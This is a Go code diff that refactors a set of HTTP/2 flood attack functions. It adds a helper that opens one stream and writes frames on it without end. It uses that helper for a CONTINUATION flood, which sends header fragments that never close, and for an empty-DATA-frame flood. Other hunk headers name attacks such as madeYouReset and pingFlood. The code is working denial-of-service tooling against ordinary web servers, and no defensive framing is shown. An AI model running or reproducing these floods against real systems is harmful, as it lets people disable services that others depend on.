@@ -65,17 +65,26 @@ func madeYouReset(ctx context.Context, t *Target, src netip.Addr, rec *recorder)
 // continuationFlood begins a header block and never ends it: zero-length
 // CONTINUATION frames without END_HEADERS, which add nothing to the block's size.
 func continuationFlood(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
+	return oneStreamFlood(ctx, t, src, rec, "GET", false, func(h *h2Conn, id uint32) error {
+		return h.fr.WriteContinuation(id, false, nil)
+	})
+}
+
+// oneStreamFlood opens one request (HEADERS with END_STREAM and END_HEADERS as given)
+// and then writes frames on it with flood, without end.
+func oneStreamFlood(ctx context.Context, t *Target, src netip.Addr, rec *recorder, method string, endHeaders bool,
+	flood func(h *h2Conn, id uint32) error) error {
 	var id uint32
 	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
 		if id == 0 {
 			id = h.stream()
-			if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block("GET", "/"),
-				EndStream: true}); err != nil {
+			if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(method, "/"),
+				EndStream: method == "GET", EndHeaders: endHeaders}); err != nil {
 				return 0, err
 			}
 		}
 		for i := range h2Batch * 16 {
-			if err := h.fr.WriteContinuation(id, false, nil); err != nil {
+			if err := flood(h, id); err != nil {
 				return i, err
 			}
 		}
@@ -146,20 +155,7 @@ func pingFlood(ctx context.Context, t *Target, src netip.Addr, rec *recorder) er
 // emptyFrames opens a POST and sends empty DATA frames on it that never end it: each
 // costs the server a frame's work and carries nothing.
 func emptyFrames(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
-	var id uint32
-	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
-		if id == 0 {
-			id = h.stream()
-			if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block("POST", "/"),
-				EndHeaders: true}); err != nil {
-				return 0, err
-			}
-		}
-		for i := range h2Batch * 16 {
-			if err := h.fr.WriteData(id, false, nil); err != nil {
-				return i, err
-			}
-		}
-		return h2Batch * 16, nil
+	return oneStreamFlood(ctx, t, src, rec, "POST", true, func(h *h2Conn, id uint32) error {
+		return h.fr.WriteData(id, false, nil)
 	})
 }
